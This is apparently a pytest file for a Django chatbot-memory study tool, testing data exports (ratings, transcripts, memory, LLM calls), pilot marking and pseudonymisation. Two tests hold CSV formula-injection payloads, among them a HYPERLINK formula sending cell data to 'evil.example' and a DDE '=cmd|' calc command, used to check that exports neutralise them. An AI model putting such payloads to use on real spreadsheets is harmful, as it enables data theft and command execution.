"""Study data for the appendix: ``manage.py export_study`` and the study page's downloads, each file with
a README header; and the pilot mark on every analysis export."""

from __future__ import annotations

import io
import json
import os
import stat
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse

from analysis.__main__ import main as analysis_cli
from chat.models import Episode, Message, Rating
from memory import vectors
from memory.embed import HashingEmbedder
from reports.tests.conftest import add_ratings
from studies.models import Study
from studies.tests.conftest import arm_job, make_finished_episode

pytestmark = pytest.mark.django_db


@pytest.fixture
def episode(study: Study) -> Episode:
    ep = make_finished_episode(study)
    snapshot = ep.sessions.get(index=1).snapshot
    snapshot.state = {
        "memory": ["The user adopted a cat named Miso."],
        "vectors": vectors.extend(None, ["The user adopted a cat named Miso."], HashingEmbedder()).block(),
    }
    snapshot.save()
    return ep


def run(study: Study, what: str, fmt: str = "csv", **kw: Any) -> str:
    out = io.StringIO()
    call_command("export_study", study.slug, "--what", what, "--format", fmt, stdout=out, **kw)
    return out.getvalue()


def read_csv(text: str) -> tuple[list[str], pd.DataFrame]:
    first = text.splitlines()[0].strip('"')  # every README line is one quoted cell
    n = int(first.split()[1])
    assert first.endswith(f"skiprows={n})")
    header = text.splitlines()[:n]
    assert all(line.removeprefix('"').startswith("#") for line in header)  # README lines are quoted cells
    return header, pd.read_csv(io.StringIO(text), skiprows=n, keep_default_na=False)


def test_the_ratings_csv_starts_with_a_readme_and_reads_with_the_skiprows_it_names(
    study: Study, episode: Episode
) -> None:
    header, table = read_csv(run(study, "ratings"))
    text = "\n".join(header)
    assert "memeval export: ratings of the study “Test study” (test-study), exported 20" in text
    assert "design: 2 sessions per episode, 7 to 14 days between sessions, drawn per gap" in text
    assert "coherence: This chatbot understood the context and responded coherently." in text
    assert "Full history: full_history on scripted / scripted" in text and "readiness: not checked" in text
    assert "#   value: the rating, 0-100 as given (not reversed)" in text
    assert "PILOT" not in text
    assert list(table.columns) == ["worker", "episode", "arm", "memory_system", "session", "metric", "value",
                                   "reversed", "rated_at", "silent_session", "non_blind"]  # fmt: skip
    assert len(table) == 5 and set(table["arm"]) == {"Full history"} and table["value"].tolist() == [60, 61, 62, 63, 64]
    assert table["worker"].iloc[0] == episode.participant.pseudonym  # never the raw Prolific ID


def test_no_export_contains_the_workers_prolific_id(study: Study, episode: Episode) -> None:
    for what in ("ratings", "transcripts", "memory", "llm-calls"):
        for fmt in ("csv", "jsonl"):
            assert "PID-SECRET-123" not in run(study, what, fmt)


def test_the_transcripts_jsonl_has_a_header_line_then_one_message_per_line(study: Study, episode: Episode) -> None:
    lines = run(study, "transcripts", "jsonl").splitlines()
    header = json.loads(lines[0])["header"]
    assert header["export"] == "transcripts" and header["pilot"] is False and header["slug"] == study.slug
    assert {a["name"]: (a["backend"], a["model"]) for a in header["arms"]} == {
        "No memory": ("scripted", "scripted"),
        "Full history": ("scripted", "scripted"),
    }
    assert header["columns"]["speaker"] == "user (the worker) or bot"
    messages = [json.loads(line) for line in lines[1:]]
    assert [(m["seq"], m["speaker"], m["text"]) for m in messages] == [
        (1, "user", "I adopted a cat <b>Miso</b>."),
        (2, "bot", "How lovely! How old is Miso?"),
    ]
    assert header["design"]["reply_pacing"] == {"on": True, "min_seconds": 2.0, "chars_per_second": 30.0}
    Message.objects.filter(session__episode=episode, speaker="bot").update(
        first_token_ms=120.0, generated_ms=900.0, shown_ms=2900.0
    )
    bot = json.loads(run(study, "transcripts", "jsonl").splitlines()[2])
    assert (bot["first_token_ms"], bot["generated_ms"], bot["shown_ms"]) == (120.0, 900.0, 2900.0)
    assert "reply pacing: every arm's reply shown no sooner than 2 s" in run(study, "transcripts")


def test_the_memory_export_has_the_readable_memory_and_no_embeddings(study: Study, episode: Episode) -> None:
    text = run(study, "memory")
    _, table = read_csv(text)
    row = table.iloc[0]
    assert row["memory"].startswith("Memory:\n- The user adopted a cat named Miso.")
    assert "float16 vectors (hashing-256), not shown" in row["state"]
    state = episode.sessions.get(index=1).snapshot.state
    assert state["vectors"]["data"] not in text
    trace = json.loads(row["trace"])
    assert "llm_calls" not in trace and trace["operations"][0]["op"] == "APPEND"


def test_the_llm_calls_export_keeps_the_prompt_and_reply_of_each_call(study: Study, episode: Episode) -> None:
    records = [json.loads(line) for line in run(study, "llm-calls", "jsonl").splitlines()[1:]]
    assert [(r["purpose"], r["message_seq"], r["model"]) for r in records] == [("reply", 2, "scripted-model")]
    assert records[0]["messages"][0] == {"role": "system", "content": "You are a friendly chatbot."}
    _, table = read_csv(run(study, "llm-calls"))
    assert json.loads(table.iloc[0]["messages"])[1]["content"] == "I adopted a cat"


def test_a_pilot_studys_exports_carry_the_pilot_mark_in_header_and_file_name(
    study: Study, episode: Episode, client: Client, researcher: Any
) -> None:
    study.pilot = True
    study.save()
    assert "# PILOT: NOT FOR PUBLICATION" in run(study, "ratings")
    assert json.loads(run(study, "memory", "jsonl").splitlines()[0])["header"]["pilot_mark"] == (
        "pilot: not for publication"
    )
    client.force_login(researcher)
    response = client.get(reverse("reports:study_data_export", args=[study.slug, "transcripts", "csv"]))
    assert response["Content-Disposition"] == 'attachment; filename="test-study-PILOT-transcripts.csv"'
    assert "PILOT: NOT FOR PUBLICATION" in b"".join(response).decode()


def test_the_command_writes_the_file_given_with_out(study: Study, episode: Episode, tmp_path: Path) -> None:
    out = tmp_path / "ratings.jsonl"
    assert run(study, "ratings", "jsonl", out=str(out)) == ""
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 6 and "header" in json.loads(lines[0])
    assert not list(tmp_path.glob("*.part"))


def test_the_command_refuses_bad_input_clearly_and_writes_nothing(study: Study, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="no study with the slug 'nope' \\(known: test-study\\)"):
        run(study.__class__(slug="nope"), "ratings")
    with pytest.raises(CommandError, match="invalid choice: 'votes'"):
        run(study, "votes")
    with pytest.raises(CommandError, match="does not exist"):
        run(study, "ratings", out=str(tmp_path / "missing" / "x.csv"))
    assert list(tmp_path.iterdir()) == []


def test_the_command_refuses_an_out_that_is_a_directory_or_not_a_regular_file(study: Study, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="it is a directory"):
        run(study, "ratings", out=str(tmp_path))
    assert list(tmp_path.iterdir()) == []
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(CommandError, match="not a regular file"):
        run(study, "ratings", out=str(fifo))
    assert stat.S_ISFIFO(fifo.stat().st_mode)  # not replaced by the export
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


def test_the_study_page_offers_every_download_and_they_need_a_researcher(
    study: Study, episode: Episode, client: Client, researcher: Any
) -> None:
    url = reverse("reports:study_data_export", args=[study.slug, "memory", "jsonl"])
    assert client.get(url)["Location"].startswith(reverse("login"))
    client.force_login(researcher)
    body = client.get(study.get_absolute_url()).content.decode()
    for what in ("ratings", "transcripts", "memory", "llm-calls"):
        for fmt in ("csv", "jsonl"):
            assert reverse("reports:study_data_export", args=[study.slug, what, fmt]) in body
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/x-ndjson")
    assert client.get(reverse("reports:study_data_export", args=[study.slug, "votes", "csv"])).status_code == 404
    assert client.get(reverse("reports:study_data_export", args=[study.slug, "memory", "xlsx"])).status_code == 404


def test_every_analysis_export_of_a_pilot_study_carries_the_mark_and_the_automatic_scores(
    study: Study, client: Client, researcher: Any, tmp_path: Path
) -> None:
    add_ratings(study, workers=6)
    study.pilot = True
    study.save()
    arm = study.arms.get(memory_system="none")
    from memory.evalreport import GVD_GOLD_NOTE

    result = {"arm": "none", "dataset": "gvd", "questions": 15, "model": "scripted", "overall": {"f1": 0.25, "judge": 0.5},
              "judge": {"stand_in": True}, "stand_in_model": True, "gold_note": GVD_GOLD_NOTE}  # fmt: skip
    arm_job(arm, "evaluation", status="done", result=result)
    client.force_login(researcher)

    def get(fmt: str) -> str:
        response = client.get(reverse("reports:study_export", args=[study.slug, fmt]))
        assert response.status_code == 200
        return response.content.decode()

    z_csv = get("csv")
    assert z_csv.startswith("# 2 header lines; read the table with pandas.read_csv(path, skiprows=2)\n")
    assert z_csv.splitlines()[1] == "# pilot: not for publication"
    z_table = pd.read_csv(io.StringIO(z_csv), skiprows=2)  # the hint is right: the header row comes next
    assert "z_coherence" in z_table.columns and len(z_table) == 6 * 2 * 2  # a row per rated session
    for fmt, name in [("csv", "test-study-PILOT-ratings-z.csv"), ("data", "test-study-PILOT-ratings.csv"),
                      ("json", "test-study-PILOT-analysis.json"), ("md", "test-study-PILOT-analysis.md")]:  # fmt: skip
        response = client.get(reverse("reports:study_export", args=[study.slug, fmt]))
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    page = client.get(reverse("reports:study_analysis", args=[study.slug])).content.decode()
    assert "python -m analysis report test-study-PILOT-ratings.csv" in page  # the command names the file
    data = pd.read_csv(io.StringIO(get("data")))  # the quality export, the CLI's input: the mark is a column
    assert set(data["pilot"]) == {"pilot: not for publication"}
    assert len(data) == Rating.objects.filter(session__episode__participant__study=study).count()
    ratings_csv = tmp_path / "ratings.csv"
    ratings_csv.write_text(get("data"))
    metrics = ",".join(study.metrics.order_by("order").values_list("key", flat=True))
    argv = ["report", str(ratings_csv), "--worker", "worker", "--unit", "unit", "--arm", "arm", "--session", "session"]
    argv += ["--metrics", metrics, "--metric-col", "metric", "--value-col", "score", "--format", "json"]
    assert analysis_cli([*argv, "--out", str(tmp_path / "cli.json")]) == 0  # the mark column does not disturb it
    exported = json.loads(get("json"))
    assert exported["pilot"] is True
    assert exported["automatic_evaluation"][0] | {"finished_at": ""} == {
        "arm": "No memory", "memory_system": "none", "dataset": "gvd", "backend": "scripted", "model": "scripted",
        "questions": 15, "f1": 0.25, "judge": 0.5, "judge_stand_in": True, "finished_at": "",
        "stand_in_model": True, "gold_note": GVD_GOLD_NOTE,
    }  # fmt: skip
    md = get("md")
    assert (
        md.startswith("> **Pilot: not for publication**")
        and "| No memory | gvd | scripted · scripted | 15 | 0.250 |" in md
    )
    # wherever GVD scores appear, so does where their gold answers come from, and a stand-in model is named
    for fmt in ("md", "latex", "html"):
        text = get(fmt)
        assert "written for memeval" in text and "human annotators" in text, fmt
        assert "measure nothing about the arm" in text, fmt
    assert "Pilot: not for publication" in get("html") and "<h2>Automatic evaluation</h2>" in get("html")
    latex = get("latex")
    assert latex.startswith("% pilot: not for publication") and "No memory & gvd & 15 & 0.250 & 0.500" in latex


def test_the_csv_exports_neutralise_formula_cells_and_leave_numbers_and_jsonl_alone(
    study: Study, episode: Episode
) -> None:
    session = episode.sessions.get(index=1)
    session.messages.filter(seq=1).update(text='=HYPERLINK("http://evil.example","click")')
    study.arms.filter(memory_system="full_history").update(name="-Full history")
    _, table = read_csv(run(study, "transcripts"))
    assert table.loc[table["seq"] == 1, "text"].item() == '\'=HYPERLINK("http://evil.example","click")'
    assert set(table["arm"]) == {"'-Full history"} and table["seq"].tolist() == [1, 2]  # numbers stay numbers
    _, ratings = read_csv(run(study, "ratings"))
    assert ratings["value"].tolist() == [60, 61, 62, 63, 64]
    raw = [json.loads(line) for line in run(study, "transcripts", "jsonl").splitlines()[1:]]
    assert raw[0]["text"].startswith("=HYPERLINK") and raw[0]["arm"] == "-Full history"  # JSON is not a spreadsheet


def test_researcher_typed_names_cannot_put_formulas_or_line_breaks_into_the_csv_readme(
    study: Study, episode: Episode
) -> None:
    """Issue 21: researcher-typed names injected formula cells into the CSV README lines, and a line break in a
    metric statement broke the documented ``read_csv(skiprows=N)``."""
    import csv

    study.name = 'Memory, =HYPERLINK("http://evil.example/?"&A1,"click")'
    study.save()
    for i, arm in enumerate(study.arms.all()):
        arm.name = f'=1+{i},"=cmd|' + "' /C calc'!A0"
        arm.save()
    metric = study.metrics.first()
    assert metric is not None
    metric.statement = "The bot\rremembered\r\nmy cat;@SUM(1,2)\u2028and\tmore\x0bthings"
    metric.save()
    text = run(study, "ratings")
    header, table = read_csv(text)
    assert list(table.columns)[:2] == ["worker", "episode"] and len(table) == Rating.objects.count()
    cells = [cell for row in csv.reader(io.StringIO("\n".join(header))) for cell in row]
    assert cells and all(cell.startswith("#") for cell in cells)  # one cell per line, never a formula
    for separator in (";", "\t"):  # a spreadsheet that guesses another separator still sees one cell per line
        cells = [c for row in csv.reader(io.StringIO("\n".join(header)), delimiter=separator) for c in row]
        assert all(c.startswith("#") for c in cells), separator


def test_the_header_names_the_drawn_gap_range_and_that_the_qc_arm_calls_no_model(
    study: Study, episode: Episode, settings: Any
) -> None:
    settings.LLM_BACKEND = "local"  # the site's default: an arm without a backend of its own would run on it
    Study.objects.filter(pk=study.pk).update(gap_days=7, gap_max_days=14, episodes_per_worker=2)
    study.refresh_from_db()
    study.arms.create(name="QC bot", memory_system="qc", llm_backend="")
    header, _ = read_csv(run(study, "ratings"))
    text = "\n".join(header)
    assert "7 to 14 days between sessions, drawn per gap" in text and "7 days between sessions" not in text
    qc_line = next(line for line in header if "QC bot:" in line)
    assert "no LLM call" in qc_line and "local" not in qc_line and "SmolLM" not in qc_line, qc_line
    jsonl = json.loads(run(study, "ratings", "jsonl").splitlines()[0])["header"]
    assert (jsonl["design"]["gap_days"], jsonl["design"]["gap_max_days"]) == (7, 14)
    qc = next(a for a in jsonl["arms"] if a["name"] == "QC bot")
    assert qc["backend"] == "" and qc["model"] == "" and qc["llm"] is False
    # a fixed gap still reads as before; the same day says so
    Study.objects.filter(pk=study.pk).update(gap_days=3, gap_max_days=None)
    assert "3 days between sessions" in run(study, "ratings")
    Study.objects.filter(pk=study.pk).update(gap_days=0, gap_max_days=None)
    assert "all sessions on the same day (for the chatbot)" in run(study, "ratings")
